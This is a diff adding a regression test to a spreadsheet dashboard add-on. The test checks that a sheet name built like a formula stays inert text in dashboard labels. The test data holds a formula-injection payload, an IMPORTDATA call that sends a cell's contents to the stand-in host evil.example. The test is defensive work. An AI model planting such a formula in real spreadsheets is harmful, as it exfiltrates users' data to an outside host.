@@ -141,3 +141,28 @@ describe("a user's own sheet called CX Dashboard", () => {
     expect(snapshot.sheets.filter((s) => s.name.startsWith('CX Dashboard'))).toHaveLength(2);
   });
 });
+
+describe('a sheet whose name reads like a formula', () => {
+  // Issue 15: the KPI "Data" label was built from the sheet name and written with setValues,
+  // so this name became a live formula sending a cell to an outside host.
+  const HOSTILE = `=IMPORTDATA("https://evil.example/?d="&Notes!A1)&"!x`;
+  const workbook = smallDemo();
+  workbook.sheets.find((s) => s.name === FORM_SHEET)!.name = HOSTILE;
+  workbook.sheets.push({ name: 'Notes', rows: [['secret']] });
+  const { emu, built } = build(workbook);
+  const dashboard = emu.spreadsheet.snapshot().sheets.find((s) => s.name === built.sheetName)!;
+
+  it('stays inert text in every label, and whole (its "!" does not cut it)', () => {
+    const formulas = dashboard.rows.flat().filter((v): v is string => typeof v === 'string' && v.startsWith('='));
+    // Every formula is one the add-on composed: the name appears only inside a quoted reference.
+    for (const formula of formulas) expect(formula.replaceAll(`'${HOSTILE.replace(/'/g, "''")}'!`, '')).not.toContain('IMPORTDATA');
+    const labels = dashboard.displayValues.flat().filter((v) => v.includes('IMPORTDATA'));
+    expect(labels).toContain(`C2:C of ${HOSTILE}`);
+    for (const label of labels) expect(label).not.toMatch(/^\s*[=+\-@]/);
+  });
+
+  it('still computes the metrics of that sheet through quoted references', () => {
+    const nps = dashboard.rows.findIndex((row) => row[0] === 'NPS');
+    expect(dashboard.values[nps][1]).toBeCloseTo(npsOfRange(column(workbook, HOSTILE, 2)).value, 9);
+  });
+});
